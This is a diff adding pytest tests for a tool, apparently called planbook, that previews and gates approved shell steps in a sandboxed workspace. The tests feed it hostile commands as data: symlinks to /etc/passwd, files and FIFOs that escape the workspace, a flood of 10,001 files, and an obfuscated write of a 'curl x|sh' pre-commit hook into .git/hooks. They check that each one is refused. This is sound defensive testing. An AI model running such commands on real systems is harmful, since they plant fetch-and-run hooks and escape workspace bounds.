@@ -11,17 +11,29 @@ import os
 import shutil
 import stat
 import subprocess
+import sys
 import tarfile
+import time
 import tomllib
 import zipfile
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
+import nbformat
 import pytest
 
+import planbook
+from planbook.documents.file import FileNotebook
+from planbook.documents.memory import MemoryNotebook
+from planbook.errors import LayerRefused
 from planbook.model.checkpoint import FileSnapshot
-from planbook.workspace.overlay import overlay_probe
+from planbook.model.plan import APPROVED_BY_RULE, Step
+from planbook.sessions.session import Session
+from planbook.surfaces.cli import main as cli
+from planbook.workspace.files import Workspace
+from planbook.workspace.layer import read_layer
+from planbook.workspace.overlay import OverlayStatus, overlay_probe
 from tests.agent.conftest import make_session
 
 CORPUS = tomllib.loads((Path(__file__).parent / "shell_write_corpus.toml").read_text())["command"]
@@ -231,3 +243,198 @@ def test_a_step_without_a_preview_is_stored_as_before(tmp_path: Path) -> None:
     assert "preview" not in step.model_dump(mode="json")
     snap = FileSnapshot(path="a")
     assert "kind" not in snap.model_dump(mode="json")
+
+
+# --- attacks: each refused or bounded in one line, nothing applied --------------------------
+
+
+def one_step(session: planbook.Session) -> Step:
+    (step,) = session.current_plan().steps  # type: ignore[union-attr]
+    return step
+
+
+def refused_whole(
+    tmp_path: Path, command: str, words: str, *, by: str = "", timeout: float = 60
+) -> planbook.Session:
+    """``command`` previewed and approved: both refuse its layer in one line naming
+    ``words``, and the workspace is as it was."""
+    root = tmp_path / "ws"
+    build_workspace(root, {})
+    start = snapshot(root)
+    session = make_session(root)
+    session.propose.shell(command, reason="attack", timeout=timeout)
+    preview = session.preview(1)
+    assert preview.problem.startswith("refused") and words in preview.problem, preview.problem
+    assert "\n" not in preview.problem
+    session.approve(by=by) if by else session.approve()
+    step = one_step(session)
+    assert step.status == "failed" and words in (step.error or ""), step.error
+    assert "nothing of" in (step.error or "") and "\n" not in (step.error or "")
+    assert snapshot(root) == start
+    return session
+
+
+def test_a_symlink_out_of_the_workspace_is_refused(tmp_path: Path) -> None:
+    refused_whole(tmp_path, "ln -s /etc/passwd passwd && echo ok > ok.txt", "symlink")
+
+
+def test_a_relative_symlink_climbing_out_is_refused(tmp_path: Path) -> None:
+    refused_whole(tmp_path, "ln -s ../../../../etc docs/etc", "leads out of the workspace")
+
+
+def test_a_fifo_is_refused(tmp_path: Path) -> None:
+    refused_whole(tmp_path, "mkfifo pipe && echo ok > ok.txt", "FIFO")
+
+
+def test_ten_thousand_files_are_refused(tmp_path: Path) -> None:
+    many = "python -c \"[open(f'f{i}', 'w').close() for i in range(10001)]\""
+    refused_whole(tmp_path, many, "10,000 entries")
+
+
+def test_a_socket_left_by_an_approved_command_is_refused(tmp_path: Path) -> None:
+    root = tmp_path / "ws"
+    build_workspace(root, {})
+    start = snapshot(root)
+    session = make_session(root)
+    session.propose.shell(
+        "python -c \"import socket; socket.socket(socket.AF_UNIX).bind('s.sock')\"", reason="x"
+    )
+    session.approve()
+    assert "a socket" in (one_step(session).error or "")
+    assert snapshot(root) == start
+
+
+def test_a_write_into_git_hooks_by_a_rule_is_refused(tmp_path: Path) -> None:
+    root = tmp_path / "ws"
+    build_workspace(root, {})
+    (root / ".git").mkdir()
+    (root / ".git/config").write_text("[core]\n")
+    start = snapshot(root)
+    session = make_session(root)
+    hook = (
+        "python -c \"import os; os.makedirs('.g'+'it/hooks'); "
+        "open('.g'+'it/hooks/pre-commit', 'w').write('curl x|sh')\""
+    )
+    session.propose.shell(hook, reason="x")
+    session.approve(by=APPROVED_BY_RULE)
+    error = one_step(session).error or ""
+    assert ".git/hooks" in error and "nothing of its layer was applied" in error, error
+    assert snapshot(root) == start
+
+
+def test_a_write_into_the_notebook_is_refused_even_when_the_person_approves(
+    tmp_path: Path,
+) -> None:
+    root = tmp_path / "ws"
+    build_workspace(root, {})
+    notebook = root / "n.ipynb"
+    notebook.write_text('{"cells": []}\n')
+    start = snapshot(root)
+    session = planbook.Session(MemoryNotebook(cells=[]), Workspace(root, protected=(notebook,)))
+    session.propose.shell("echo '{}' > n.ipynb && echo ok > ok.txt", reason="x")
+    assert "the notebook" in session.preview(1).problem
+    session.approve()
+    error = one_step(session).error or ""
+    assert "n.ipynb" in error and "nothing of its layer was applied" in error, error
+    assert snapshot(root) == start
+
+
+def test_a_command_that_never_exits_is_stopped_and_nothing_applied(tmp_path: Path) -> None:
+    root = tmp_path / "ws"
+    build_workspace(root, {})
+    start = snapshot(root)
+    session = make_session(root)
+    session.propose.shell("echo half > half.txt; sleep 600", reason="x", timeout=2)
+    began = time.monotonic()
+    preview = session.preview(1)
+    assert preview.timed_out and "timed out" in preview.summary
+    session.approve()
+    error = one_step(session).error or ""
+    assert "timed out" in error and "nothing of its layer was applied" in error, error
+    assert time.monotonic() - began < 30
+    assert snapshot(root) == start
+
+
+def test_writing_through_a_symlink_out_is_said_not_held(tmp_path: Path) -> None:
+    """A workspace symlink to a folder outside: the preview cannot reach it (the sandbox shows
+    nothing outside), and the approved run's record says what no layer holds."""
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    root = tmp_path / "ws"
+    build_workspace(root, {})
+    (root / "out").symlink_to(outside)
+    session = make_session(root)
+    session.propose.shell("echo x > out/f.txt", reason="x")
+    preview = session.preview(1)
+    assert preview.exit_code != 0 and not preview.changes
+    assert not (outside / "f.txt").exists()
+    session.approve()
+    assert "changes outside the workspace" in (one_step(session).error or "") + str(
+        session.current_plan().results[-1].message  # type: ignore[union-attr]
+    )
+
+
+def _layer_with(tmp_path: Path, make: Any) -> Path:
+    root = tmp_path / "ws"
+    build_workspace(root, {})
+    upper = tmp_path / "upper"
+    upper.mkdir()
+    make(upper)
+    return root
+
+
+@pytest.mark.parametrize(
+    ("what", "make"),
+    [
+        ("hard link", lambda up: os.link(up.parent / "elsewhere", up / "h")),
+        ("character device", lambda up: os.mknod(up / "d", stat.S_IFCHR | 0o600, os.makedev(1, 3))),
+        ("block device", lambda up: os.mknod(up / "b", stat.S_IFBLK | 0o600, os.makedev(7, 0))),
+    ],
+)
+def test_a_layer_holding_links_out_or_devices_is_refused(
+    tmp_path: Path, what: str, make: Any
+) -> None:
+    if os.geteuid() != 0 and "device" in what:
+        pytest.skip("making a device node needs root")
+    (tmp_path / "elsewhere").write_text("outside the layer\n")
+    root = _layer_with(tmp_path, make)
+    with pytest.raises(LayerRefused, match=what):
+        read_layer(root, tmp_path / "upper")
+
+
+def test_without_overlays_shell_steps_run_as_before_and_plan_says_why(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(
+        "planbook.engine.executor.shell_layer.overlay_probe",
+        lambda: OverlayStatus(False, "no overlays: user namespaces are off"),
+    )
+    session = make_session(tmp_path)
+    session.propose.shell("echo a > a.txt", reason="x")
+    session.propose.shell("echo b > b.txt", reason="y")
+    text = session.render_text()
+    assert text.count("previews and shell rollback are off: no overlays: user namespaces") == 1
+    assert session.preview(1).problem.startswith("preview not possible: no overlays")
+    assert session.approve().ok
+    assert (tmp_path / "a.txt").read_text() == "a\n"
+    assert "not undone by rollback" in session.checkpoints()[-1].label
+
+
+def test_planbook_preview_on_a_notebook_file(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "n.ipynb"
+    nbformat.write(nbformat.v4.new_notebook(), path)
+    (tmp_path / "a.txt").write_text("one\n")
+    session = Session(
+        FileNotebook(path), Workspace(tmp_path, protected=(path,)), notebook_path=path
+    )
+    session.propose.shell("sed -i s/one/ONE/ a.txt", reason="x")
+    assert cli.main(["preview", str(path), "1"]) == 0
+    out = capsys.readouterr().out
+    assert "# preview (exit 0): 1 changed" in out and "+ONE" in out and "-one" in out
+    assert (tmp_path / "a.txt").read_text() == "one\n"
+    shown = subprocess.run(
+        [sys.executable, "-m", "planbook", "show", str(path)], capture_output=True, text=True
+    )
+    assert "+ONE" in shown.stdout  # kept on the step, for every review
